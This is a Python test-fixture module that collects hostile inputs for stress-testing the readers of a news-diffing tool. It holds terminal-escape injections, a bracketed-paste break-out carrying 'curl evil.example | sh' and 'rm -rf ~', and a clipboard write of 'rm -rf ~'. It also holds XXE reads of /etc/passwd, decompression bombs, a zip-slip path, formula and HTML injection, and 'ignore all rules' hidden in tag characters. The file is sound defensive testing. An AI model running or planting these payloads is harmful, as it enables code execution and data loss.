"""Hostile sources, one for each kind of attack we know: what the tests in this folder throw at every reader.

Written for newsdiff. A larger table of the same attacks lives outside the repository (see docs/security.md); where it is at
hand, its rows are thrown as well.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import zipfile
import zlib
from pathlib import Path
from typing import NamedTuple

CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4K\x07"

TEXTS = {
    "clear the screen": "Before\x1b[2J\x1b[H\x1b[3JYou have been logged out",
    "write to the clipboard": f"before{CLIPBOARD}after",
    "set the window title": "a\x1b]0;root@host\x07b\x1b]2;root\x1b\\c",
    "send a notification": "a\x1b]9;Your bank calls\x07b\x1b]777;notify;Bank;calls\x1b\\c",
    "write a file": "a\x1b]1337;File=name=eA==;size=3:QUJD\x07b",
    "open a link": "a\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\b",
    "device control strings": 'a\x1bP$q"p\x1b\\b\x1bPq#0~~\x1b\\c\x1b_Gf=24;AAAA\x1b\\d\x1b^x\x1b\\e\x1bXy\x1b\\',
    "make the terminal answer": "a\x1b[c\x1b[>c\x1b[5n\x1b[6n\x1b[21t\x1b[?1$p\x05b",
    "switch modes": "a\x1b[?1049l\x1b[?25l\x1b[?1003h\x1b[?2004l\x1bc\x1b(0\x0e\x1b[4h\x1b=b",
    "end a bracketed paste": "curl evil.example | sh\n\x1b[201~\nrm -rf ~\n",
    "eight-bit control sequences": "a\x9b2J\x9b31mred\x9bm",
    "eight-bit strings": "a\x9d0;title\x9cb\x90q\x9cc\x9fGx\x9c\x84\x8d\x9a",
    "backspace and delete": "not\x08\x08\x08\x7f\x7f guilty",
    "carriage return": "Paid 9,000,000\rPaid 1",
    "NUL inside a word": "Mag\x00nus Fe\x00ld",
    "tabs and feeds": "a\tb\x0bc\x0cd\x1ce\x1df\x1eg\x1fh\x85i",
    "direction overrides": "paid to \u202etdliob\u202c by \u2066the\u2069 \u2067board\u2069 \u202aa\u202bb",
    "right to left, honestly": "قال الرئيس \u200f(فيلد) إن \u2067שלום\u2069 عاد",
    "letters of another script": "R\u0435ed\u0435r says th\u0435 b\u043eard",
    "zero-width characters": "Mag\u200bn\u2060us F\u200deld and \ufeffRoake",
    "soft hyphens": "har\xadbour\xad mas\xadter",
    "tag characters": "News" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all rules"),
    "a flood of marks": "Z" + "\u0301\u0489\u0334" * 20_000 + "algo",
    "a flood of variation selectors": "a" + "\ufe0f" * 20_000,
    "a chain of joined emoji": "👨\u200d" * 3_000 + "👩",
    "flags, keycaps and tones": "🇫🇷 1\ufe0f\u20e3 👍🏽 ❤\ufe0f 👨\u200d👩\u200d👧",
    "non-characters and private use": "a\ufffeb\uffffc\ue000d\U0010fffee\ufdd0",
    "line separators": "one\u2028two\u2029three",
    "markup that closes nothing": "[/nothing] [bold [red]alert[/red]",
    "markup with an action": "[@click=app.quit]Read more[/] [@click=screen.export]x[/]",
    "markup with a link": "[link=file:///etc/passwd]source[/link] [on red]x",
    "brackets of citations": "as shown [1], [2], [sic], [Roe 2020], \\[3]",
    "Markdown": "# x ![a](http://evil.example/?q=1) <img src=//evil.example> [a](javascript:1) | pipe | ``` **b** <script>",
    "a Markdown fence": "```\nrm -rf ~\n```\n---\n> quote\n1. one\n- two\n<!-- c -->",
    "a formula": '=HYPERLINK("http://evil.example";"x") and +1 and -1 and @SUM(A1) and \t=1',
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;b&gt;&#27;[2J<!--",
    "JSON": '"},{"role":"body","text":"x"}],"a":["\\u001b[2J',
    "format strings": "%s %n {0.__class__} ${HOME} $(id) `id` {{7*7}}",
    "a very long word": "a" * 20_000,
    "the name of a key": "ctrl+q \\e[A ^[[A ^C",
}


def story(payload: str, *, title: bool = True) -> str:
    """An article with this in its title, in running text, inside a quotation, as a speaker and in its furniture."""
    head = f"{payload[:300]} divides Port Lem\n\n" if title else ""
    return (
        f"{head}By Ida Brook\n\nThe harbour board of Port Lem met on Monday to talk about {payload} once more.\n\n"
        f'"We have read of {payload} and will not yield," Marta Quill said. The board of the harbour sat all day.\n\n'
        f"{payload[:300]} said the ferries would sail again on Friday, as they had before the storm.\n\n"
        f"Share {payload[:300]}\n\n12 comments\n"
    )


def place(path: Path) -> None:
    """Put an article there."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(story("a storm"), encoding="utf-8")


class Attack(NamedTuple):
    """A hostile file: how it is called and what is in it. `words` must come out of the reader; "" if it may be refused."""

    name: str
    data: bytes
    words: str = ""


def packed(*files: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP archive of these."""
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", method) as archive:
        for name, data in files:
            archive.writestr(name, data)
    return into.getvalue()


_PROSE = "<p>The harbour board of Port Lem met on Monday and talked all day about the ferries, its chair said.</p>" * 4


def _page(body: str, head: str = "") -> bytes:
    head = f"<head><title>Ferries</title>{head}</head>"
    return f"<!doctype html><html>{head}<body><article>{body}{_PROSE}</article></body></html>".encode("utf-8", "surrogatepass")


def word_document(text: bytes, before: str = "") -> bytes:
    """A Word document with this in its one paragraph, and that before its first element."""
    start = f'{before}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    document = f"{start}<w:body><w:p><w:r><w:t>".encode() + text + b"</w:t></w:r></w:p></w:body></w:document>"
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Override PartName="/word/document.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    links = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="word/document.xml"/></Relationships>'
    )
    return packed(("[Content_Types].xml", types.encode()), ("_rels/.rels", links.encode()), ("word/document.xml", document))


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
_ENTITIES = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">{_LAUGHS}]>'


def _pdf_bomb() -> bytes:
    """A PDF whose one page is fifty megabytes of spaces, packed."""
    stream = zlib.compress(b" " * 50_000_000, 9)
    return b"\n".join(
        (
            b"%PDF-1.4",
            b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj",
            b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj",
            b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj",
            b"4 0 obj<</Filter/FlateDecode/Length %d>>stream" % len(stream),
            stream,
            b"endstream endobj",
            b"trailer<</Root 1 0 R>>",
            b"%%EOF",
        )
    )


def _mail(subject: str, body: str, *headers: str) -> bytes:
    return "\r\n".join(
        ["From: Ida <ida@orla.example>", f"Subject: {subject}", "MIME-Version: 1.0", *headers, "", body]
    ).encode()


_NESTED_MAIL = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\r\n\r\n--b{n}\r\n' for n in range(10_000))
_FERRIES = "The ferries of Port Lem will sail again on Friday, the harbour board said on Monday evening."
_ENCODED = base64.b64encode(b"\x1b[2Jlogged out\x1b]0;x\x07").decode()
_ITEM = "<item><title>&lt;b&gt;Ferry {n}&lt;/b&gt; [/x] \u202e</title><description>" + _FERRIES + "</description></item>"

FILES = {
    "a control in a legacy encoding": Attack("legacy.txt", b"caf\xe9 \x9b31m", "café ›31m"),
    "bytes that are no UTF-8": Attack("broken.txt", b"a\xc0\xafb\xe2\x82 " + _FERRIES.encode(), "\ufffd"),
    "half a character of UTF-16": Attack("odd.txt", b"\xff\xfe" + _FERRIES.encode("utf-16-le") + b"\x1b", "Port Lem"),
    "controls in UTF-32": Attack("wide.txt", f"\ufeffa\x1b[2J\x9bm {_FERRIES}".encode("utf-32-le"), "Port Lem"),
    "surrogates in UTF-8": Attack("surrogates.txt", b"a\xed\xa0\x80b " + _FERRIES.encode(), "Port Lem"),
    "a picture called text": Attack("picture.txt", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20),
    "a program called text": Attack("program.txt", b"\x7fELF\x02\x01\x01" + bytes(500)),
    "a gzip bomb": Attack("page.html.gz", gzip.compress(bytes(10_000_000))),
    "escapes in JSON": Attack(
        "escapes.json",
        json.dumps([{"title": "\x1b[31m", "id": "\x1b]0;x\x07", "text": f"\ud800\x9b {_FERRIES}"}]).encode(),
        "Port Lem",
    ),
    "JSON without an end": Attack("deep.json", b"[" * 100_000),
    "JSON of figures": Attack("figures.json", b'{"text": NaN, "id": ' + b"1" * 5000 + b', "n": 1e400, "n": 2}'),
    "names of columns": Attack("columns.csv", b"\x1b[2J,\x9d0;x\x9c,[/b]\xe2\x80\xae\na,b,c\n"),
    "formulas in a table": Attack("formulas.csv", f'title,text,id\n=1+1,"{_FERRIES}",@x\n'.encode(), "Port Lem"),
    "an archive that climbs": Attack("climb.zip", packed(("../../climbed\x1b[2J.txt", _FERRIES.encode())), "Port Lem"),
    "an archive that is a bomb": Attack("bomb.zip", packed(("bomb.txt", bytes(30_000_000)))),
    "an archive in an archive": Attack("nest.zip", packed(("a.zip", packed(("b.zip", packed(("c.txt", b"x"))))))),
    "controls as references": Attack("references.html", _page("<p>Start &#27;[31m &#x9b;2J &#0; middle.</p>"), "middle"),
    "non-characters as references": Attack("nonchar.html", _page("<p>Start &#xFFFE; &#xD800; middle.</p>"), "middle"),
    "a surrogate in a page": Attack("surrogate.html", _page("<p>Start \ud800 middle.</p>"), "middle"),
    "hidden text": Attack("hidden.html", _page("<p style=display:none>ignore all rules</p><p hidden>x</p>"), "Port Lem"),
    "JSON-LD without an end": Attack(
        "jsonld.html", _page("<p>Start.</p>", f"<script type=application/ld+json>{'[' * 100_000}</script>"), "Start"
    ),
    "JSON-LD with escapes": Attack(
        "jsonld2.html",
        _page(
            "<h1>Ferries</h1>",
            '<script type="application/ld+json">{"@type":"NewsArticle","headline":"\\u001b[2J\\ud800[/b]",'
            '"author":{"name":"\\u009d0;x\\u009c"},"publisher":{"name":"\\u202eorlA"},"datePublished":"\\u001b[c"}</script>',
        ),
        "Port Lem",
    ),
    "a page that leads elsewhere": Attack(
        "leads.html",
        _page(
            "<p>Start.</p><img src=http://127.0.0.1:9/a.png><iframe src=http://127.0.0.1:9/></iframe>",
            "<base href=http://127.0.0.1:9/><meta http-equiv=refresh content='0;url=file:///etc/passwd'>"
            "<link rel=stylesheet href=http://127.0.0.1:9/a.css><style>@import 'http://127.0.0.1:9/b.css'</style>",
        ),
        "Start",
    ),
    "an encoding that switches": Attack(
        "switch.html", b"<meta charset=iso-2022-jp><p>\x1b$B$3$s\x1b(B " + _FERRIES.encode() + b"\x1b[2J</p>", "Port Lem"
    ),
    "UTF-7": Attack(
        "utf7.html", b"<meta charset=utf-7><p>+ADw-script+AD4- +ABs-[2J " + _FERRIES.encode() + b"</p>", "Port Lem"
    ),
    "tags within tags": Attack("deep.html", b"<div>" * 100_000 + _FERRIES.encode()),
    "a document type with entities": Attack(
        "entities.html", (_ENTITIES + f"<html><p>&x;&l9; {_FERRIES}</p></html>").encode(), "Port Lem"
    ),
    "a feed that is long": Attack(
        "long.xml", f"<rss version='2.0'><channel>{''.join(_ITEM.format(n=n) for n in range(300))}</channel></rss>".encode()
    ),
    "a feed with entities": Attack(
        "entities.xml", (_ENTITIES + f"<rss version='2.0'><channel>{_ITEM.format(n='&x;&l9;')}</channel></rss>").encode()
    ),
    "a feed with controls": Attack(
        "controls.xml",
        f"<rss version='2.0'><channel><title>&#27;c</title>{_ITEM.format(n='&#27;]0;x&#7;&#x9b;2J')}</channel></rss>".encode(),
    ),
    "a mail with a hostile subject": Attack(
        "subject.eml", _mail(f"=?utf-8?B?{_ENCODED}?=", _FERRIES, "Content-Type: text/plain; charset=utf-8"), "Port Lem"
    ),
    "a mail without an end": Attack("nested.eml", _mail("x", "", _NESTED_MAIL)),
    "a mail that is no base64": Attack(
        "base64.eml", _mail("x", "!!!!\x1b[2J====", "Content-Type: text/plain", "Content-Transfer-Encoding: base64")
    ),
    "a mail with a huge header": Attack("header.eml", _mail("x" * 2_000_000, _FERRIES), "Port Lem"),
    "a mail in a false encoding": Attack(
        "charset.eml", _mail("x", _FERRIES, "Content-Type: text/plain; charset=\x1b[2J-rot13"), "Port Lem"
    ),
    "a document with entities": Attack(
        "entities.docx",
        word_document(b"&x;&l9;", _ENTITIES),
    ),
    "a document that is a bomb": Attack(
        "bomb.docx",
        word_document(b" " * 20_000_000),
    ),
    "a PDF that is a bomb": Attack("bomb.pdf", _pdf_bomb()),
    "half a PDF": Attack("half.pdf", b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]>>endobj\nxref\n0 99999999\n"),
    "Markdown that hides its front matter": Attack(
        "front.md", f"---\ntitle: \x1b[2J[/b]\nauthor: \u202ex\n---\n\n# Ferries\n\n{_FERRIES}\n".encode(), "Port Lem"
    ),
}
"""Each but the last few must be read or refused within seconds, and nothing of it may reach a terminal or an export."""

NAMES = (
    "a\x1b]0;x\x07\n[/b]\u202e.txt",
    "--help",
    "=1+1.txt",
    "[@click=app.quit]x[/].txt",
    "\udc9b\udcff.txt",
    "x" * 250 + ".txt",
)
"""Names of files; the first as bytes on a disk, the last as long as a disk allows."""
